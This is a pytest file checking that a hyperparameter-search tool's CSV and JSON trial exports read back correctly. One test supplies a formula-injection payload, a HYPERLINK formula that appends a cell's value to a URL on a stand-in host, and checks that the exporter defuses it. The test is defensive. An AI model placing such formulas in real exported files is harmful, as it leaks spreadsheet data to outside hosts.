"""All trials as CSV and JSON, read back by other readers."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pandas as pd
import pytest

from fastrcaps_search.analysis.rows import trial_rows
from fastrcaps_search.report.tables import csv_text, json_text
from tests.report.views import FAILURE, HOSTILE, many, stored_of

if TYPE_CHECKING:
    from tests.report.conftest import Records

ODD = ['say "no"', "a,b;c\td", "two\nlines\r\nand more", HOSTILE, "=1+1", " spaces ", "é – 漢"]


@pytest.fixture(scope="session")
def rows(records: Records) -> list[dict[str, Any]]:
    """Eleven complete trials, one failed, one running."""
    found = stored_of("full", records)
    return trial_rows(found.records, found.leases)


def test_columns_come_in_the_documented_order(rows: list[dict[str, Any]]) -> None:
    header = csv_text(rows).split("\n")[0]
    assert header.split(",") == [
        "trial",
        "state",
        "params.lr_policy",
        "params.batch_policy",
        "params.adabatch_exponent",
        "params.decoder",
        "params.weight_sharing",
        "values.accuracy",
        "values.training_seconds",
        "values.parameters",
        "runs",
        "device",
        "front_probability",
        "test_accuracy",
        "feasible",
        "reason",
    ]


def test_csv_reads_back_as_the_rows(rows: list[dict[str, Any]]) -> None:
    found = list(csv.DictReader(io.StringIO(csv_text(rows))))
    assert len(found) == 13
    assert found[9] == {
        "trial": "9",
        "state": "complete",
        "params.lr_policy": "warm_restarts",
        "params.batch_policy": "adabatch",
        "params.adabatch_exponent": "5",
        "params.decoder": "reduced",
        "params.weight_sharing": "true",
        "values.accuracy": "0.948",
        "values.training_seconds": "104.4",
        "values.parameters": "1483312",
        "runs": "1",
        "device": "Test CPU @ 2 GHz",
        "front_probability": "",
        "test_accuracy": "0.944",
        "feasible": "true",
        "reason": "",
    }
    assert found[2]["params.batch_policy"] == ""
    assert (found[11]["state"], found[11]["reason"]) == ("failed", "diverged at epoch 2")
    assert (found[12]["state"], found[12]["values.accuracy"]) == ("running", "")


def test_pandas_reads_the_same(records: Records) -> None:
    rows = trial_rows(many(records, 40))
    table = pd.read_csv(io.StringIO(csv_text(rows)))
    assert len(table) == 40
    assert table["trial"].tolist() == list(range(40))
    for name in ("accuracy", "training_seconds", "parameters"):
        assert table[f"values.{name}"].tolist() == [row["values"][name] for row in rows]
    assert table["params.weight_sharing"].dtype == bool
    shared = [row["params"]["weight_sharing"] for row in rows]
    assert table["params.weight_sharing"].tolist() == shared


def test_hostile_texts_survive(records: Records) -> None:
    trials = [
        replace(
            records.failed(number, replace(FAILURE, message=words)),
            runs=(
                replace(
                    records.trials()[0].runs[0],
                    setting=replace(records.setting, device_name=words),
                ),
            ),
        )
        for number, words in enumerate(ODD)
    ]
    text = csv_text(trial_rows(trials))
    for found in (
        list(csv.DictReader(io.StringIO(text, newline=""))),
        pd.read_csv(io.StringIO(text, newline=""), keep_default_na=False).to_dict("records"),
    ):
        # What a spreadsheet would calculate is a text there.
        expected = ["'=1+1" if words == "=1+1" else words for words in ODD]
        assert [row["reason"] for row in found] == expected
        assert [row["device"] for row in found] == expected


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
def test_no_text_is_a_formula_and_every_number_stays_one(
    rows: list[dict[str, Any]], sign: str
) -> None:
    text = f'{sign}HYPERLINK("http://a/?"&B2)'
    changed = rows[0] | {"reason": text, "device": f" {text}", "test_accuracy": -0.5}
    (found,) = csv.DictReader(io.StringIO(csv_text([changed]), newline=""))
    assert found["reason"] == f"'{text}"
    assert found["device"] == f" {text}"
    assert found["test_accuracy"] == "-0.5"
    assert json.loads(json_text([changed]))[0]["reason"] == text


def test_only_parameters_that_some_trial_has_get_a_column(records: Records) -> None:
    rates = csv_text(trial_rows(stored_of("rates", records).records)).split("\n")[0].split(",")
    assert [name for name in rates if name.startswith("params.")] == [
        "params.lr_policy",
        "params.batch_policy",
        "params.decoder",
        "params.weight_sharing",
        "params.lr_max",
        "params.lr_min",
        "params.batch_size",
    ]
    lenet5 = csv_text(trial_rows(stored_of("lenet5", records).records)).split("\n")[0].split(",")
    assert "params.decoder" not in lenet5


def test_no_trial_is_a_header_alone() -> None:
    assert csv_text([]) == (
        "trial,state,values.accuracy,values.training_seconds,values.parameters,"
        "runs,device,front_probability,test_accuracy,feasible,reason\n"
    )
    assert json.loads(json_text([])) == []


def test_json_is_the_rows(rows: list[dict[str, Any]]) -> None:
    text = json_text(rows)
    assert json.loads(text) == rows
    assert text.endswith("]\n")


def test_json_keeps_texts_readable_and_numbers_finite(records: Records) -> None:
    odd = records.complete(0, float("nan"), float("inf"), 5)
    lost = records.failed(1, replace(FAILURE, message="é\u2028"))
    text = json_text(trial_rows([odd, lost]))
    assert "é" in text
    found = json.loads(text)
    assert found[0]["values"] == {"accuracy": None, "training_seconds": None, "parameters": 5}
    with pytest.raises(ValueError, match="not JSON compliant"):
        json_text([{"values": float("nan")}])


def test_spreads_have_columns_where_some_trial_has_one(records: Records) -> None:
    rows = trial_rows(stored_of("repeated", records).records)
    text = csv_text(rows)
    header = text.split("\n")[0].split(",")
    assert header[7:] == [
        "values.accuracy",
        "values.training_seconds",
        "values.parameters",
        "spread.accuracy.deviation",
        "spread.accuracy.margin",
        "spread.accuracy.low",
        "spread.accuracy.high",
        "spread.training_seconds.deviation",
        "spread.training_seconds.margin",
        "spread.training_seconds.low",
        "spread.training_seconds.high",
        "runs",
        "device",
        "front_probability",
        "test_accuracy",
        "feasible",
        "reason",
    ]
    found = list(csv.DictReader(io.StringIO(text)))
    # Two runs of 96.0 and 96.4 %, of 117 and 119 s: deviation sqrt(2) halves of their distance.
    two = {key: float(found[2][key]) for key in header if key.startswith("spread.")}
    assert two == pytest.approx(
        {
            "spread.accuracy.deviation": 0.004 / 2**0.5,
            "spread.accuracy.margin": 12.706205 * 0.002,
            "spread.accuracy.low": 0.962 - 12.706205 * 0.002,
            "spread.accuracy.high": 0.962 + 12.706205 * 0.002,
            "spread.training_seconds.deviation": 2**0.5,
            "spread.training_seconds.margin": 12.706205,
            "spread.training_seconds.low": 118 - 12.706205,
            "spread.training_seconds.high": 118 + 12.706205,
        },
        abs=1e-6,
    )
    assert {row["spread.accuracy.margin"] for row in found if row["runs"] == "1"} == {""}
    assert [row["runs"] for row in found] == ["1", "1", "2", "2", *"15111", "2", "1"]
    assert found[2]["front_probability"] == str(rows[2]["front_probability"])
    assert (found[3]["front_probability"], found[3]["values.accuracy"]) == ("", "")
